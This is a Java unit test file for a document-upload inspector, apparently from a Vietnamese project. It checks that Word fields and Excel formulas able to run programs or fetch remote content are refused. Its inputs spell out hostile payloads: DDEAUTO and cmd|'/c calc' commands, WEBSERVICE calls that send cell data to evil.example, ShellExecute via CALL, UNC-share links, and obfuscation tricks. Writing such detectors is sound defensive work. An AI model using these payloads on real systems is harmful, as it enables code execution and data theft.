package vn.phongtrao.document;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.IOException;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import vn.phongtrao.refusal.Refusal;

/** Fields and formulas, which do what relationships may not. */
class OfficeFieldsTest {

    private static final String BEGIN = "<w:fldChar w:fldCharType='begin'/>";
    private static final String SEPARATE = "<w:fldChar w:fldCharType='separate'/>";
    private static final String END = "<w:fldChar w:fldCharType='end'/>";

    @TempDir
    private Path folder;

    @ParameterizedTest
    @ValueSource(strings = {"DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"", " dde excel \"c:\\\\x.xls\" R1C1",
            "DDEAUTO\"cmd\"", "INCLUDEPICTURE \"http://evil.example/x.png\" \\d", "INCLUDETEXT \"\\\\\\\\evil.example\\\\share\\\\x.docx\"",
            "LINK Excel.Sheet.8 \"\\\\\\\\evil\\\\x.xlsx\" \"\" \\a \\p", "MACROBUTTON AutoExec click", "IMPORT \"http://evil/x.png\"",
            "HYPERLINK \"file:///\\\\\\\\evil.example\\\\share\\\\x.exe\"", "HYPERLINK \"C:\\\\Windows\\\\System32\\\\calc.exe\"",
            "HYPERLINK C:\\\\x.exe", "HYPERLINK \\\\\\\\evil\\\\x", "HYPERLINK \\n “file:///x”", "Hyperlink\"file:x\" \\o \"a\"",
            "HYPERLINK \\l \"a\" \"javascript:alert(1)\"", "HYPERLINK \"https://example.org\" \"x.exe\"", "DATABASE \\c \"x\""})
    void fieldsThatRunOrFetchAreRefused(String instruction) {
        refusedField("<w:fldSimple w:instr='" + escaped(instruction) + "'/>");
        refusedField(field(escaped(instruction)));
        refusedField(BEGIN + parts(instruction) + SEPARATE + END);
        refusedField(BEGIN + parts(instruction));
        refusedField(parts(instruction));
        refusedField(field(" IF 1 = 1 \"" + field(escaped(instruction)) + "\""));
        refusedField(BEGIN + parts("HYPERLINK \"https://x\"").replace("instrText", "delInstrText") + parts(instruction) + END);
    }

    @ParameterizedTest
    @ValueSource(strings = {"HYPERLINK \"https://example.org/a?b=c:d\" \\o \"Trang: chủ\" \\t \"_blank\"", "HYPERLINK \\l \"_Toc1\"",
            "HYPERLINK \"mailto:a@example.org\"", "HYPERLINK \"phuluc.docx\" \\l \"a:b\"", "HYPERLINK\\l\"_Toc2\" \\h", "PAGE \\* MERGEFORMAT",
            "TOC \\o \"1-3\" \\h \\z \\u", " REF _Ref12 \\h ", "DATE \\@ \"dd/MM/yyyy\"", "QUOTE 68 68 69", "= 1 + 2", "", "linkage",
            "ADDIN ZOTERO_ITEM {\"link\": \"file:///x\"}"})
    void otherFieldsAreAccepted(String instruction) {
        assertThat(accept("document.xml", "<w:fldSimple w:instr='" + escaped(instruction) + "'/>").type()).isEqualTo(FileType.DOCX);
        assertThat(accept("document.xml", BEGIN + parts(instruction) + SEPARATE + "<w:t>DDE</w:t>" + field(escaped(instruction)) + END)
                .type()).isEqualTo(FileType.DOCX);
    }

    @Test
    void whatAFieldComesToIsNoFieldAndNoLink() {
        refusedField(field(field("QUOTE 68 68 69") + " c:\\\\x.exe"));
        refusedField(field("HYPERLINK " + field("QUOTE 68")));
        refusedField(field("DD<w:t>x</w:t>E") + BEGIN + "<w:t>DDE</w:t>" + parts(" x") + END);
        assertThat(accept("document.xml", field("= " + field("PAGE") + " - 1") + field("HYPERLINK \"https://x/" + field("DATE") + "\""))
                .type()).isEqualTo(FileType.DOCX);
    }

    @Test
    void noFieldGoesOnFromOneAlternativeToAnother() {
        refusedField(BEGIN + "<mc:Choice>" + parts("HYPERLINK \"https://x\"") + "</mc:Choice><mc:Fallback>" + parts("DDE x")
                + "</mc:Fallback>" + END);
        refusedField(BEGIN + parts("D") + "<mc:Choice>" + SEPARATE + "</mc:Choice>" + parts("DE x") + END);
        var whole = field("PAGE");
        assertThat(accept("document.xml", BEGIN + parts("PAGE") + SEPARATE + "<mc:Choice>" + whole + "</mc:Choice><mc:Fallback>" + whole
                + "</mc:Fallback>" + END).type()).isEqualTo(FileType.DOCX);
    }

    @ParameterizedTest
    @ValueSource(strings = {"header1.xml", "footer2.xml", "footnotes.xml", "comments.xml", "document", "x.dat", "x.vml", "glossary/document.XML"})
    void fieldsAreFoundInEveryPart(String part) {
        for (var encoding : List.of(StandardCharsets.UTF_8, StandardCharsets.UTF_16, StandardCharsets.UTF_16LE)) {
            assertThatThrownBy(() -> accept("a.docx", "wordprocessingml.document", "word/" + part,
                    xml(field("DDE cmd"), encoding).getBytes(encoding))).isInstanceOf(Refusal.class).hasMessageContaining("liên kết");
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"WEBSERVICE(\"http://evil.example/?\"&A2)", "_xlfn.WEBSERVICE(A1)", "cmd|'/c calc'!A0", "1+cmd|' /C calc'!'A1'",
            "HYPERLINK(\"\\\\evil\\share\\x.exe\",\"mở\")", "IMAGE(\"http://evil.example/x.png\")", "_xlfn.IMAGE (A1)", "EXEC(\"calc\")",
            "CALL(\"Shell32\",\"ShellExecuteA\",\"JJCCCJJ\",0,\"open\",\"cmd\")", "REGISTER(\"x\")", "SUM(1,hyperlink( \"file:///x\"))",
            "HYPERLINK(A1)", "HYPERLINK(\"file:\"&A1,\"x\")", "HYPERLINK(\"javascript:\"&A1)", "'\\\\evil\\[x.xlsx]S'!A1", "DDE(\"a\",\"b\",\"c\")",
            "IF(A1=\"\",REGISTER.ID(\"a\",\"b\"),1)", "T['\"]+WEBSERVICE(\"x\")"})
    void formulasThatRunOrFetchAreRefused(String formula) {
        for (var element : List.of("f", "definedName", "formula1", "xm:f", "calculatedColumnFormula")) {
            assertThatThrownBy(() -> sheet("<%s>%s</%1$s>".formatted(element, escaped(formula)))).isInstanceOf(Refusal.class)
                    .hasMessageContaining("có thể chạy chương trình");
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"SUM(A1:A3)", "HYPERLINK(\"https://example.org\",\"mở\")", "HYPERLINK(\"#'\"&A1&\"'!A1\",A1)",
            "HYPERLINK(\"phuluc.docx\")", "TEXTJOIN(\"|\",TRUE,Sheet1!A1)", "SUBSTITUTE(A1,\"|\",\"\")&'Tổ 1'!B2", "RECALL(1)", "'a:b'!A1/2",
            "Table1[[#This Row],[a]]", "IF(A1>0,\"gọi\",B1/C1)", "HYPERLINK(\"mailto:\"&A1,\"thư\")"})
    void otherFormulasAreAccepted(String formula) {
        assertThat(sheet("<f>" + escaped(formula) + "</f>").type()).isEqualTo(FileType.XLSX);
    }

    @Test
    void drawingsLeadNowhereElse() {
        refusedField("<v:shape href='\\\\evil\\x.exe'/>");
        assertThatThrownBy(() -> accept("document.xml", "<v:imagedata src='http://evil.example/x.png'/>")).isInstanceOf(Refusal.class);
        assertThat(accept("document.xml", "<v:shape href='https://example.org'/><v:imagedata r:id='rId1'/>").type())
                .isEqualTo(FileType.DOCX);
    }

    @Test
    void partsThatCannotBeReadAreRefused() {
        for (var xml : List.of("<x>", "no XML", "<!DOCTYPE x [<!ENTITY a 'DDE'>]><x>&a;</x>", "<x>".repeat(10_000))) {
            assertThatThrownBy(() -> accept("a.docx", "wordprocessingml.document", "word/document.xml",
                    xml.getBytes(StandardCharsets.UTF_8))).isInstanceOf(Refusal.class).hasMessageContaining("không đọc được");
        }
        assertThat(accept("a.docx", "wordprocessingml.document", "word/media/a.svg",
                "<!DOCTYPE svg [<!ENTITY a 'b'>]><svg>&a;".getBytes(StandardCharsets.UTF_8)).type()).isEqualTo(FileType.DOCX);
    }

    private void refusedField(String content) {
        assertThatThrownBy(() -> accept("document.xml", content)).isInstanceOf(Refusal.class).hasMessageContaining("liên kết");
    }

    private Inspection.Accepted accept(String part, String content) {
        return accept("a.docx", "wordprocessingml.document", "word/" + part, xml(content, StandardCharsets.UTF_8)
                .getBytes(StandardCharsets.UTF_8));
    }

    private Inspection.Accepted sheet(String content) {
        return accept("a.xlsx", "spreadsheetml.sheet", "xl/worksheets/sheet1.xml", xml(content, StandardCharsets.UTF_8)
                .getBytes(StandardCharsets.UTF_8));
    }

    private Inspection.Accepted accept(String name, String main, String part, byte[] content) {
        try {
            return Inspection.of(new Upload(name, Files.write(folder.resolve("upload"), Samples.office(main, Map.of(part, content)))));
        } catch (IOException failed) {
            throw new IllegalStateException(failed);
        }
    }

    private static String xml(String content, Charset encoding) {
        return ("<?xml version='1.0' encoding='%s'?><x xmlns:w='w' xmlns:mc='m' xmlns:r='r' xmlns:xm='x' "
                + "xmlns:v='urn:schemas-microsoft-com:vml'>%s</x>").formatted(encoding.name(), content);
    }

    private static String field(String instruction) {
        return BEGIN + "<w:instrText>" + instruction.replace(BEGIN, "</w:instrText>" + BEGIN).replace(END, END + "<w:instrText>")
                + "</w:instrText>" + SEPARATE + END;
    }

    /** Split within words. */
    private static String parts(String instruction) {
        var half = instruction.length() > 2 ? 2 : 0;
        return "<w:instrText>" + escaped(instruction.substring(0, half)) + "</w:instrText><w:instrText>"
                + escaped(instruction.substring(half)) + "</w:instrText>";
    }

    private static String escaped(String text) {
        return text.replace("&", "&amp;").replace("'", "&#39;").replace("<", "&lt;");
    }
}
